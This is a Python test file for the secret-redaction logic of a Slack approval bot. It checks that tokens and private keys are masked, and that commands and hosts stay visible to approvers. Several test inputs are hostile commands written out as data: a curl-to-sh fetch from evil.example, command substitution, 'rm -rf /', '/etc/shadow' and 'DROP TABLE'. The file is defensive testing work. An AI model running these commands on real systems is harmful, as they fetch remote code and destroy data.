"""Secrets never reach Slack; what is around them does."""

import json

import pytest

from approvals.domain.approval_request import Cause
from approvals.domain.lifecycle import PermitEvent
from approvals.domain.redaction import mark, mask_arguments, mask_text, mask_words, names_a_secret
from approvals.domain.strict_json import JsonValue
from bot.slack.arguments_view import CARD_MAX_CHARS
from bot.slack.card_text import notification_text
from bot.slack.cards import CLAIM_MAX_CHARS, card_blocks
from bot.slack.full_view import view_page
from bot.slack.modals import details_modal
from tests.cards.builders import (
    ASKED_AT,
    a_content,
    a_request,
    approved,
    arguments_shown,
    ended,
    shown,
)
from tests.costs import grows_like_a_line

# Put together here, so that no scanner takes this file for a leak.
BODY = "Zx9Kq2Lm7Vt4Rb8Nc3Wp6Yd1Hs5Jf0Ga"
SECRETS = {
    "aws": "AKIA" + "IOSFODNN7EXAMPLE",
    "github": "ghp_" + BODY,
    "github_fine": "github_" + "pat_" + BODY,
    "slack_bot": "xoxb-" + "123456789012-" + BODY,
    "slack_app": "xapp-" + "1-A1-" + BODY,
    "model": "sk-" + "proj-" + BODY,
    "stripe": "sk_" + "live_" + BODY,
    "google": "AIza" + (BODY + BODY)[:35],
    "sayso": "sayso_01K0000000000000000000000A_" + "0a1b2c3d" * 9,
    "gitlab": "glpat-" + BODY,
    "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTYifQ." + BODY,
    "pem": "-----BEGIN RSA "
    "PRIVATE KEY-----\n" + (BODY * 2 + "\n") * 6 + "-----END RSA PRIVATE KEY-----",
}
PLACES = [
    "{}",
    "before {} after",
    "curl -H 'X-Key: {}' https://a.example/x",
    '{{"k": "{}"}}',
    "k={}",
]


def everything_sent(arguments: dict[str, JsonValue]) -> str:
    request = a_request(arguments, reason=json.dumps(arguments))
    content = a_content(request)
    closed = ended(Cause.PERSON, request=request, reason=json.dumps(arguments))
    ran = approved(PermitEvent.CLAIM, PermitEvent.SUCCEED, result=json.dumps(arguments))
    drawn = [
        [
            *(card_blocks(each, ASKED_AT), details_modal(each, ASKED_AT), view_page(each)),
            notification_text(each, ASKED_AT),
        ]
        for each in (content, closed, ran)
    ]
    return json.dumps(drawn, ensure_ascii=False)


@pytest.mark.parametrize("kind", SECRETS)
@pytest.mark.parametrize("place", PLACES)
def test_l2_a_secret_is_known_by_its_form_wherever_it_stands(kind: str, place: str) -> None:
    secret = SECRETS[kind]
    text = place.format(secret)

    sent = everything_sent({"a": text, "b": [{"c": text}], text: 1})

    core = "IOSFODNN7" if kind == "aws" else BODY
    assert core not in sent
    assert "[secret, " in sent


@pytest.mark.parametrize(
    "name",
    [
        *("password", "db_password", "dbPassword", "API_KEY", "api-key", "token", "authToken"),
        *("client_secret", "Authorization", "aws_secret_access_key", "PASSWORD_OLD", "session_id"),
    ],
)
def test_l2_a_secret_is_known_by_its_name(name: str) -> None:
    sent = everything_sent({name: "canary-canary", "deep": [{name: "Bearer canary-canary\n"}]})

    assert "canary" not in sent
    assert name in sent


@pytest.mark.parametrize(
    "name",
    ["max_tokens", "token_url", "password_file", "secret_name", "key", "author", "tokenizer"],
)
def test_a_name_that_is_only_about_a_secret_hides_nothing(name: str) -> None:
    assert not names_a_secret(name)


def test_a_mark_carries_length_and_a_digest_keyed_by_the_request() -> None:
    here, there = mark("s" * 40, "one salt"), mark("s" * 40, "another")

    assert here.startswith("[secret, 40 characters, #")
    assert here == mark("s" * 40, "one salt")
    assert here != there
    assert mark("t" * 40, "one salt") != here


@pytest.mark.parametrize(
    "said",
    [
        *(
            "password=hunter2hunter2",
            '{"api_key": "Basic aHVudGVyMg=="}',
            "Authorization: Bearer abcdefghijklmnop1",
            '["a", 1',
        ),
        *(
            '{"password": "hunter2", "deep": [{"token": "abc1"}]}',
            "https://bob:hunter2@db.example/x",
        ),
    ],
)
def test_masking_what_is_masked_changes_nothing(said: str) -> None:
    once = mask_words(said, "s")

    assert mask_words(once, "s") == once
    assert "hunter2" not in once


def test_masking_changes_nothing_of_what_runs() -> None:
    request = a_request({"password": "hunter2"})

    card_blocks(a_content(request), ASKED_AT)

    assert request.call.arguments == {"password": "hunter2"}


def test_masking_keeps_keys_hosts_paths_and_numbers_of_tokens() -> None:
    url = f"https://bob:{BODY}@db.example.org:5432/shop/live?token={BODY}&x=1"

    masked = mask_arguments(
        {"url": url, "tokens": 512, "pin": 1234, "password": {"user": "bob"}}, "s"
    )

    assert isinstance(masked, dict)
    assert (masked["tokens"], masked["pin"]) == (512, 1234)
    assert masked["url"] == (
        f"https://bob:{mark(BODY, 's')}@db.example.org:5432/shop/live?token={mark(BODY, 's')}&x=1"
    )
    assert masked["password"] == {"user": "bob"}


def test_what_stands_deeper_under_a_secret_name_is_judged_by_its_own_name() -> None:
    masked = mask_arguments(
        {"credentials": {"command": "reboot", "password": "hunter2"}, "tokens": ["rm", "-rf"]}, "s"
    )

    assert masked == {
        "credentials": {"command": "reboot", "password": mark("hunter2", "s")},
        "tokens": ["rm", "-rf"],
    }


@pytest.mark.parametrize(
    "arguments",
    [
        {"env": {"DEPLOY_TOKEN": "x; curl https://evil.example/a.sh | sh"}},
        {"token": "/etc/shadow"},
        {"cookie": {"command": "rm -rf /srv", "host": "db.prod", "port": 5432}},
        {"secret": ["sh", "-c", "reboot"]},
        *({"password": text} for text in ("DROP TABLE users", "DROP_TABLE_users", "--force")),
        *({"password": text} for text in ("$(reboot)", "`reboot`", "reboot%20now", "a&&b", "rm")),
        *({"api_key": text} for text in ("https://evil.example/x", "db.prod.example", "db:5432")),
        *({"api_key": text} for text in ("10.0.0.7", "::1", "root@db.prod", "srv/App1/run/all3")),
        *({"api_key": text} for text in ("Users/bob/Documents/report2024", "C:\\Users", "x" * 513)),
        {"sql": "password=DROP_TABLE_users"},
        {"command": "token=reboot"},
        {"command": "deploy --token srv/App1/run/all3"},
    ],
    ids=str,
)
def test_no_name_hides_what_would_run_or_lead_somewhere(arguments: dict[str, JsonValue]) -> None:
    assert mask_arguments(arguments, "s") == arguments


@pytest.mark.parametrize(
    "text",
    [
        "https://sk-aaaaaaaaaaaaaaaaaaaaaaaa1.evil.example/x",
        "token=evil.example/path",
        "--token=/etc/shadow",
        "password=$(curl${IFS}evil|sh)",
        "-----BEGIN RSA " + "PRIVATE KEY-----\nrm -rf /\n-----END RSA PRIVATE KEY-----",
        "https://bob:$(reboot)@host/",
        "the password is secret; reset the token soon",
        "risk-assessment-for-the-whole-of-2026-and-beyond",
    ],
)
def test_nothing_that_would_run_or_lead_somewhere_is_hidden_as_a_secret(text: str) -> None:
    assert mask_text(text, "s") == text


@pytest.mark.parametrize("before", range(CARD_MAX_CHARS - 900, CARD_MAX_CHARS - 780, 3))
def test_l4_a_cut_never_leaves_part_of_a_secret(before: int) -> None:
    secret = SECRETS["github"]
    request = a_request({"a": "x" * before + " " + secret + " " + "y" * 4_000})

    text = arguments_shown(card_blocks(a_content(request), ASKED_AT))

    assert all(secret[start : start + 8] not in text for start in range(len(secret) - 8))


@pytest.mark.parametrize("before", range(CLAIM_MAX_CHARS - 45, CLAIM_MAX_CHARS + 2, 3))
def test_l4_words_are_masked_before_they_are_cut(before: int) -> None:
    secret = SECRETS["github"]
    words = "x" * before + " " + secret + " y"

    drawn = shown(card_blocks(a_content(a_request(reason=words)), ASKED_AT))

    assert all(secret[start : start + 8] not in drawn for start in range(len(secret) - 8))


@pytest.mark.parametrize(
    "piece",
    [
        *("eyJ", "sk-", "password=", "://a:", "token ", "authorization:", "a_", "AKIA", "ghp_"),
        *("-----BEGIN " + "PRIVATE KEY-----", "-----BEGIN " + "PRIVATE KEY-----\n" + "A" * 64),
    ],
)
def test_masking_a_text_made_to_be_slow_stays_linear(piece: str) -> None:
    def mask(size: int) -> None:
        mask_text(piece * (size // len(piece)), "s")

    assert grows_like_a_line(mask, 40_000)


def test_l2_two_keys_whose_marks_are_the_same_both_stay() -> None:
    body = "a1B2c3D4e5F6g7H8i9J0k1L2"
    one, other = f"ghp_00003959{body}", f"ghp_00005906{body}"
    assert mask_text(one, "s") == mask_text(other, "s")

    masked = mask_arguments({one: "ls", other: "rm -rf /", mask_text(one, "s"): 3}, "s")

    assert isinstance(masked, dict)
    assert sorted(map(str, masked.values())) == ["3", "ls", "rm -rf /"]
    assert all(key.startswith(mask_text(one, "s")) for key in masked)
